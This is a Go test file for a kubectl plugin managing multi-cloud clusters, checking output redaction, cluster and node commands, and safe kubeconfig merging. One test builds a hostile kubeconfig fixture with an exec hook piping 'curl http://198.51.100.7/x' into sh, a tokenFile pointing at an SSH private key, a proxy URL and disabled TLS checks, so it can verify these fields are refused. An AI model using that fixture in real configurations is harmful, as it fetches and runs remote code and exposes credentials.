package mcks

import (
	"context"
	"encoding/base64"
	"errors"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"k8s.io/cli-runtime/pkg/genericiooptions"
	"k8s.io/client-go/tools/clientcmd"

	"github.com/openmcp-plugins/kubectl-openmcp/pkg/cli"
	mcks "github.com/openmcp-plugins/kubectl-openmcp/pkg/mcks/api"
	"github.com/openmcp-plugins/kubectl-openmcp/pkg/mcks/api/mckstest"
)

type result struct {
	code           int
	stdout, stderr string
}

func run(t *testing.T, args ...string) result {
	t.Helper()
	streams, _, out, errOut := genericiooptions.NewTestIOStreams()
	code := NewCmdMCKS(streams).Execute(args)
	return result{code, out.String(), errOut.String()}
}

// sampleReq is mckstest's two-cloud cluster with two workers.
func sampleReq(name string) mcks.ClusterReq {
	req := mckstest.TwoCloudReq(name)
	req.Worker[0].Count = 2
	return req
}

// noSecrets fails if any output shows a node SSH key or a kubeconfig client key.
func noSecrets(t *testing.T, what string, r result) {
	t.Helper()
	keyB64 := base64.StdEncoding.EncodeToString([]byte(mckstest.ClientKeyMarker))[:20]
	for _, s := range []string{r.stdout, r.stderr} {
		if strings.Contains(s, mckstest.CredentialMarker) || strings.Contains(s, "PRIVATE KEY") || strings.Contains(s, keyB64) || strings.Contains(s, mckstest.ClientKeyMarker) {
			t.Errorf("%s shows a secret:\n%s", what, s)
		}
	}
}

func TestClusterListAndGetNeverShowKeys(t *testing.T) {
	srv := mckstest.New(t)
	srv.AddCluster("default", sampleReq("c1"))
	srv.AddCluster("default", sampleReq("c2"))
	t.Setenv(mcks.ServerEnv, srv.URL())

	r := run(t, "cluster", "list")
	if r.code != 0 {
		t.Fatalf("exit %d: %s", r.code, r.stderr)
	}
	lines := strings.Split(strings.TrimSpace(r.stdout), "\n")
	if len(lines) != 3 || !strings.HasPrefix(lines[0], "NAME") || !strings.Contains(lines[0], "CONTROL-PLANES") {
		t.Fatalf("table:\n%s", r.stdout)
	}
	for i, name := range []string{"c1", "c2"} {
		f := strings.Fields(lines[i+1])
		if f[0] != name || f[1] != "Provisioned" || f[3] != "kilo" || f[4] != "1" || f[5] != "2" {
			t.Errorf("row %q", lines[i+1])
		}
	}
	for _, args := range [][]string{
		{"cluster", "list", "-o", "json"}, {"cluster", "list", "-o", "yaml"}, {"cluster", "list", "-o", "wide"},
		{"cluster", "get", "c1", "-o", "json"}, {"cluster", "get", "c1", "-o", "yaml"},
		{"cluster", "get", "c1", "-o", "jsonpath={.nodes[*].credential}"},
		{"cluster", "get", "c1", "-o", "go-template={{.clusterConfig}}"},
		{"node", "list", "--cluster", "c1", "-o", "yaml"}, {"node", "list", "--cluster", "c1", "-o", "json"},
		{"node", "list", "--cluster", "c1", "-o", "wide"},
		{"node", "get", "--cluster", "c1", srv.Cluster("default", "c1").Nodes[0].Name, "-o", "jsonpath={.credential}"},
	} {
		r := run(t, args...)
		if r.code != 0 {
			t.Errorf("%v: exit %d: %s", args, r.code, r.stderr)
		}
		noSecrets(t, strings.Join(args, " "), r)
	}
	if r := run(t, "cluster", "get", "c1", "-o", "jsonpath={.nodes[0].credential}"); r.stdout != mcks.Redacted {
		t.Errorf("credential printed as %q, want %s", r.stdout, mcks.Redacted)
	}
	if r := run(t, "cluster", "list", "-o", "name"); r.stdout != "cluster/c1\ncluster/c2\n" {
		t.Errorf("-o name: %q", r.stdout)
	}
	if r := run(t, "cluster", "get", "c1", "-o", "yaml"); !strings.Contains(r.stdout, "kind: Cluster\n") || !strings.Contains(r.stdout, "server: https://") {
		t.Errorf("-o yaml lacks the kind or the kubeconfig's server:\n%s", r.stdout)
	}
}

func TestClusterGetMissingAndBadAnswers(t *testing.T) {
	srv := mckstest.New(t)
	srv.AddCluster("default", sampleReq("c1"))
	r := run(t, "cluster", "get", "c1", "nope", "--mcks-server", srv.URL())
	if r.code != 1 || !strings.Contains(r.stdout, "c1") || !strings.Contains(r.stderr, `error: cluster "nope" not found in MCKS namespace "default" at `+srv.URL()) {
		t.Errorf("get with a missing name: exit %d\n%s\n%s", r.code, r.stdout, r.stderr)
	}

	srv.SetFault(http.MethodGet, "/ns/default/clusters", mckstest.FaultHTMLGateway)
	r = run(t, "cluster", "list", "--mcks-server", srv.URL())
	if r.code != 1 || strings.Count(r.stderr, "\n") != 1 || !strings.Contains(r.stderr, `502 Bad Gateway: an HTML error page titled "502 Bad Gateway"`) {
		t.Errorf("HTML gateway page: exit %d, stderr %q", r.code, r.stderr)
	}
	srv.SetFault(http.MethodGet, "/ns/default/clusters", mckstest.FaultHang)
	start := time.Now()
	r = run(t, "cluster", "list", "--mcks-server", srv.URL(), "--request-timeout", "300ms")
	if r.code != 1 || !strings.Contains(r.stderr, "no answer to GET /ns/default/clusters within 300ms") || time.Since(start) > 5*time.Second {
		t.Errorf("silent server: exit %d after %s, stderr %q", r.code, time.Since(start), r.stderr)
	}
	if r := run(t, "cluster", "list", "--mcks-server", "localhost:1470"); r.code != 2 || !strings.Contains(r.stderr, `invalid MCKS server "localhost:1470"`) {
		t.Errorf("bad server URL: exit %d, %q", r.code, r.stderr)
	}
}

func TestClusterCreateWaitShowsProgress(t *testing.T) {
	srv := mckstest.New(t)
	pollInterval = 2 * time.Millisecond
	t.Cleanup(func() { pollInterval = mcks.DefaultPollInterval })
	r := run(t, "cluster", "create", "c9", "--mcks-server", srv.URL(),
		"--control-plane", "config-aws-ap-northeast-2:t3.medium",
		"--worker", "config-gcp-europe-west2:n1-standard-2:2", "--worker", "config-azure-koreacentral:Standard_B2s", "--wait")
	if r.code != 0 {
		t.Fatalf("exit %d: %s", r.code, r.stderr)
	}
	if !strings.Contains(r.stdout, "cluster/c9 created (Provisioned, 1 control-plane and 3 worker nodes") {
		t.Errorf("stdout %q", r.stdout)
	}
	if !strings.Contains(r.stderr, "cluster/c9: Provisioning") || !strings.Contains(r.stderr, "/4 nodes") || !strings.Contains(r.stderr, "cluster/c9: Provisioned, 4/4 nodes") {
		t.Errorf("no progress on stderr:\n%s", r.stderr)
	}
	if c := srv.Cluster("default", "c9"); c == nil || c.Etcd != "local" {
		t.Errorf("stored cluster %+v", c)
	}
}

func TestClusterCreateRefusesBadInputAndTimesOut(t *testing.T) {
	srv := mckstest.New(t)
	for _, tc := range []struct {
		args []string
		want string
	}{
		{[]string{"c1", "--control-plane", "a:b", "--worker", "a:b:0"}, `invalid --worker "a:b:0": COUNT must be a whole number of at least 1`},
		{[]string{"c1", "--control-plane", "a:b", "--worker", "a:b", "--cni", "flannel"}, `invalid network CNI "flannel": allowed values are kilo, canal`},
		{[]string{"c1", "--control-plane", "a:b", "--worker", "a:b", "--etcd", "remote"}, `invalid etcd "remote": allowed values are local, external`},
		{[]string{"C_1", "--control-plane", "a:b", "--worker", "a:b"}, `invalid cluster name "C_1"`},
		{[]string{"c1", "--worker", "a:b"}, "give the control plane"},
		{[]string{"c1", "--control-plane", "a:b", "--control-plane", "c:d", "--worker", "a:b"}, "exactly one control-plane node set"},
		{[]string{"c1", "--control-plane", "a:b", "--worker", "a:b", "--dry-run=server"}, "no server-side dry run"},
	} {
		r := run(t, append([]string{"cluster", "create", "--mcks-server", srv.URL()}, tc.args...)...)
		if r.code != 2 || !strings.Contains(r.stderr, tc.want) {
			t.Errorf("%v: exit %d, stderr %q, want %q", tc.args, r.code, r.stderr, tc.want)
		}
	}
	if n := len(srv.Requests()); n != 0 {
		t.Errorf("bad input sent %d requests", n)
	}

	r := run(t, "cluster", "create", "c1", "--mcks-server", srv.URL(), "--control-plane", "a:b", "--worker", "a:b", "--dry-run=client", "-o", "json")
	if r.code != 0 || !strings.Contains(r.stdout, `"etcd": "local"`) || len(srv.Requests()) != 0 {
		t.Errorf("client dry run: exit %d, %q, %d requests", r.code, r.stdout, len(srv.Requests()))
	}

	srv.StepDelay = 2 * time.Second
	pollInterval = 10 * time.Millisecond
	t.Cleanup(func() { pollInterval = mcks.DefaultPollInterval })
	start := time.Now()
	r = run(t, "cluster", "create", "slow", "--mcks-server", srv.URL(), "--control-plane", "a:b", "--worker", "a:b", "--wait", "--timeout", "300ms")
	if r.code != 1 || !strings.Contains(r.stderr, `cluster "slow" is still being provisioned`) || !strings.Contains(r.stderr, "--timeout 300ms passed") || !strings.Contains(r.stderr, "kubectl mcks cluster get slow") {
		t.Errorf("timeout: exit %d, stderr %q", r.code, r.stderr)
	}
	if time.Since(start) > 5*time.Second {
		t.Errorf("--timeout 300ms honoured after %s", time.Since(start))
	}
}

func TestClusterDeleteQuirkAndNodes(t *testing.T) {
	srv := mckstest.New(t)
	srv.AddCluster("default", sampleReq("c1"))
	t.Setenv(mcks.ServerEnv, srv.URL())

	if r := run(t, "cluster", "delete", "ghost"); r.code != 1 || !strings.Contains(r.stderr, `cluster "ghost" not found in MCKS namespace "default"`) {
		t.Errorf("delete of a missing cluster (HTTP 200, code 404): exit %d %q", r.code, r.stderr)
	}
	if r := run(t, "cluster", "delete", "ghost", "--ignore-not-found"); r.code != 0 {
		t.Errorf("--ignore-not-found: exit %d %q", r.code, r.stderr)
	}

	r := run(t, "node", "add", "--cluster", "c1", "--worker", "config-alibaba-ap-northeast-1:ecs.t5:2")
	if r.code != 0 || strings.Count(r.stdout, " added (worker, alibaba ap-northeast-1)") != 2 {
		t.Fatalf("node add: exit %d\n%s\n%s", r.code, r.stdout, r.stderr)
	}
	r = run(t, "node", "list", "--cluster", "c1")
	if r.code != 0 || strings.Count(r.stdout, "\n") != 6 || !strings.Contains(r.stdout, "alibaba") {
		t.Errorf("node list:\n%s", r.stdout)
	}
	added := strings.Fields(strings.Split(r.stdout, "\n")[5])[0]
	if r := run(t, "node", "remove", "--cluster", "c1", added); r.code != 0 || r.stdout != "node/"+added+" removed\n" {
		t.Errorf("node remove: exit %d %q %q", r.code, r.stdout, r.stderr)
	}
	// The server lists a missing cluster's nodes as none: the command says the cluster is missing.
	if r := run(t, "node", "list", "--cluster", "ghost"); r.code != 1 || !strings.Contains(r.stderr, `cluster "ghost" not found in MCKS namespace "default"`) {
		t.Errorf("node list of a missing cluster: exit %d %q", r.code, r.stderr)
	}
	if r := run(t, "node", "list"); r.code != 2 || !strings.Contains(r.stderr, "--cluster is required") {
		t.Errorf("node list without --cluster: exit %d %q", r.code, r.stderr)
	}
	if r := run(t, "cluster", "delete", "c1"); r.code != 0 || r.stdout != "cluster/c1 deleted\n" {
		t.Errorf("delete c1: exit %d %q %q", r.code, r.stdout, r.stderr)
	}
	if srv.Cluster("default", "c1") != nil {
		t.Error("c1 still stored")
	}
}

func TestKubeconfigMergeRenamesAndNeverClobbers(t *testing.T) {
	srv := mckstest.New(t)
	srv.AddCluster("default", sampleReq("c1"))
	srv.AddCluster("default", sampleReq("c2"))
	t.Setenv(mcks.ServerEnv, srv.URL())
	kc := filepath.Join(t.TempDir(), "config")

	for _, name := range []string{"c1", "c2"} {
		if r := run(t, "kubeconfig", name, "--merge", "--kubeconfig", kc); r.code != 0 || !strings.Contains(r.stdout, `context "`+name+`" added to `+kc) {
			t.Fatalf("merge %s: exit %d %q %q", name, r.code, r.stdout, r.stderr)
		}
	}
	cfg, err := clientcmd.LoadFromFile(kc)
	if err != nil {
		t.Fatal(err)
	}
	if cfg.Contexts["c1"] == nil || cfg.Contexts["c2"] == nil || cfg.Contexts["c2"].AuthInfo != "c2-admin" || cfg.Clusters["kubernetes"] != nil {
		t.Errorf("merged kubeconfig: contexts %v clusters %v", cfg.Contexts, cfg.Clusters)
	}
	if fi, _ := os.Stat(kc); fi.Mode().Perm() != 0o600 {
		t.Errorf("mode %v", fi.Mode().Perm())
	}
	before, _ := os.ReadFile(kc)
	r := run(t, "kubeconfig", "c2", "--context-name", "c1", "--merge", "--kubeconfig", kc)
	if r.code != 1 || !strings.Contains(r.stderr, `already exists in `) || !strings.Contains(r.stderr, "--overwrite") {
		t.Errorf("clobbering merge: exit %d %q", r.code, r.stderr)
	}
	if after, _ := os.ReadFile(kc); string(after) != string(before) {
		t.Error("a refused merge changed the kubeconfig")
	}
	if r := run(t, "kubeconfig", "c2", "--context-name", "c1", "--merge", "--overwrite", "--kubeconfig", kc); r.code != 0 || !strings.Contains(r.stdout, "replaced in") {
		t.Errorf("--overwrite: exit %d %q %q", r.code, r.stdout, r.stderr)
	}

	r = run(t, "kubeconfig", "c1")
	if r.code != 0 || !strings.Contains(r.stdout, "name: c1-admin") || !strings.Contains(r.stdout, "DATA+OMITTED") {
		t.Errorf("printed kubeconfig:\n%s", r.stdout)
	}
	noSecrets(t, "kubeconfig without --raw", r)
	if r := run(t, "kubeconfig", "c1", "--raw"); !strings.Contains(r.stdout, base64.StdEncoding.EncodeToString([]byte(mckstest.ClientKeyMarker+"-of-c1"))) {
		t.Errorf("--raw lacks the key")
	}
}

// Ctrl-C during a wait exits 130 with the same account of what the server
// goes on doing; a --timeout stays an ordinary failure.
func TestStoppedEarlyByCtrlCIsAnInterruption(t *testing.T) {
	base := errors.New(`cluster "c9" is still being provisioned; the MCKS server carries on`)
	interrupted, cancel := context.WithCancel(context.Background())
	cancel()
	var ie *cli.InterruptedError
	if err := stoppedEarly(interrupted, base); !errors.As(err, &ie) || ie.Msg != base.Error() {
		t.Errorf("Ctrl-C: %v", err)
	}
	timedOut, cancel2 := context.WithTimeout(context.Background(), 0)
	defer cancel2()
	<-timedOut.Done()
	if err := stoppedEarly(timedOut, base); errors.As(err, &ie) || err != base {
		t.Errorf("--timeout: %v", err)
	}
}

// A kubeconfig from a hostile MCKS server: every field beyond inline data is
// refused by name for --merge, --file and --raw, and the user's kubeconfig is
// untouched; --dry-run -o yaml shows it (keys redacted) and writes nothing;
// --allow-unsafe-fields writes it.
func TestKubeconfigFromTheAPIIsUntrusted(t *testing.T) {
	srv := mckstest.New(t)
	srv.AddCluster("default", sampleReq("c1"))
	t.Setenv(mcks.ServerEnv, srv.URL())
	dir := t.TempDir()
	kc := filepath.Join(dir, "config")
	if r := run(t, "kubeconfig", "c1", "--merge", "--kubeconfig", kc, "--context-name", "mine"); r.code != 0 {
		t.Fatalf("clean merge: exit %d %q", r.code, r.stderr)
	}
	before, _ := os.ReadFile(kc)
	keyB64 := base64.StdEncoding.EncodeToString([]byte(mckstest.ClientKeyMarker + "-of-c1"))
	hostile := `apiVersion: v1
kind: Config
clusters:
- name: kubernetes
  cluster:
    server: https://203.0.113.9:6443
    certificate-authority-data: Y2E=
    proxy-url: http://198.51.100.7:3128
    insecure-skip-tls-verify: true
contexts:
- name: kubernetes-admin@kubernetes
  context: {cluster: kubernetes, user: kubernetes-admin}
current-context: kubernetes-admin@kubernetes
users:
- name: kubernetes-admin
  user:
    client-key-data: ` + keyB64 + `
    client-certificate-data: Y2VydA==
    tokenFile: /home/user/.ssh/id_rsa
    exec:
      apiVersion: client.authentication.k8s.io/v1
      command: /bin/sh
      args: ["-c", "curl http://198.51.100.7/x | sh"]
`
	srv.SetKubeconfig("default", "c1", hostile)
	fields := []string{`": insecure-skip-tls-verify`, `": proxy-url`, `-admin": tokenFile`, `-admin": exec`}
	for _, args := range [][]string{
		{"--merge", "--kubeconfig", kc},
		{"--merge", "--kubeconfig", kc, "--overwrite", "--context-name", "mine"},
		{"--file", filepath.Join(dir, "c1.kubeconfig")},
		{"--raw"},
	} {
		r := run(t, append([]string{"kubeconfig", "c1"}, args...)...)
		if r.code != 1 || len(strings.Split(strings.TrimSpace(r.stderr), "\n")) != 1 || r.stdout != "" {
			t.Errorf("%v: exit %d, stdout %q, stderr %q: want exit 1 and one error line", args, r.code, r.stdout, r.stderr)
		}
		for _, f := range fields {
			if !strings.Contains(r.stderr, f) {
				t.Errorf("%v: the error does not name %s: %q", args, f, r.stderr)
			}
		}
		noSecrets(t, strings.Join(args, " "), r)
	}
	if after, _ := os.ReadFile(kc); string(after) != string(before) {
		t.Error("a refused merge changed the kubeconfig")
	}
	if _, err := os.Stat(filepath.Join(dir, "c1.kubeconfig")); err == nil {
		t.Error("a refused --file wrote the file")
	}

	// --dry-run shows what would be written, keys redacted, and writes nothing.
	r := run(t, "kubeconfig", "c1", "--merge", "--kubeconfig", kc, "--dry-run", "-o", "yaml")
	if r.code != 0 || !strings.Contains(r.stdout, "proxy-url: http://198.51.100.7:3128") || !strings.Contains(r.stdout, "command: /bin/sh") ||
		!strings.Contains(r.stderr, "--allow-unsafe-fields") || !strings.Contains(r.stderr, "nothing was written") {
		t.Errorf("--dry-run: exit %d\n%s\n%s", r.code, r.stdout, r.stderr)
	}
	noSecrets(t, "--dry-run", r)
	if r := run(t, "kubeconfig", "c1", "--merge", "--dry-run", "-o", "json", "--kubeconfig", kc); r.code != 0 || !strings.Contains(r.stdout, `"proxy-url": "http://198.51.100.7:3128"`) {
		t.Errorf("--dry-run -o json: exit %d\n%s%s", r.code, r.stdout, r.stderr)
	}
	if after, _ := os.ReadFile(kc); string(after) != string(before) {
		t.Error("--dry-run changed the kubeconfig")
	}
	// The redacted print only shows them, with a warning.
	if r := run(t, "kubeconfig", "c1"); r.code != 0 || !strings.Contains(r.stderr, "Warning:") || !strings.Contains(r.stderr, `user "c1-admin": exec`) {
		t.Errorf("print: exit %d %q", r.code, r.stderr)
	}
	if r := run(t, "kubeconfig", "c1", "-o", "xml"); r.code != 2 || !strings.Contains(r.stderr, `"xml"`) {
		t.Errorf("-o xml: exit %d %q", r.code, r.stderr)
	}

	// The user looked, and accepts it.
	r = run(t, "kubeconfig", "c1", "--merge", "--kubeconfig", kc, "--allow-unsafe-fields")
	if r.code != 0 || !strings.Contains(r.stderr, "--allow-unsafe-fields") {
		t.Fatalf("--allow-unsafe-fields: exit %d %q", r.code, r.stderr)
	}
	cfg, err := clientcmd.LoadFromFile(kc)
	if err != nil || cfg.AuthInfos["c1-admin"].Exec == nil || cfg.Clusters["c1"].ProxyURL == "" || cfg.Contexts["mine"] == nil {
		t.Errorf("merged with --allow-unsafe-fields: %v %+v", err, cfg)
	}

	// A server that is not https.
	srv.SetKubeconfig("default", "c1", strings.Replace(strings.Split(hostile, "    proxy-url")[0], "https://", "http://", 1)+
		"contexts:\n- name: k\n  context: {cluster: kubernetes, user: kubernetes-admin}\ncurrent-context: k\nusers:\n- name: kubernetes-admin\n  user: {token: abcdefgh}\n")
	if r := run(t, "kubeconfig", "c1", "--file", filepath.Join(dir, "plain")); r.code != 1 || !strings.Contains(r.stderr, `server "http://203.0.113.9:6443" is not https`) {
		t.Errorf("http server: exit %d %q", r.code, r.stderr)
	}
}

// The admin kubeconfig fetched over plain HTTP from another machine is
// reported; over loopback it is not.
func TestKubeconfigOverPlainHTTPWarns(t *testing.T) {
	var b strings.Builder
	for _, s := range []string{"http://127.0.0.1:1470/mcks", "http://localhost:1470/mcks", "http://[::1]:1470/mcks", "https://mcks.example:1470/mcks"} {
		warnPlainHTTP(&b, s)
	}
	if b.Len() != 0 {
		t.Errorf("loopback or https warned: %q", b.String())
	}
	warnPlainHTTP(&b, "http://10.0.0.8:1470/mcks")
	if got := b.String(); strings.Count(got, "\n") != 1 || !strings.Contains(got, "10.0.0.8:1470") || !strings.Contains(got, "plain HTTP") {
		t.Errorf("warning %q", got)
	}
}
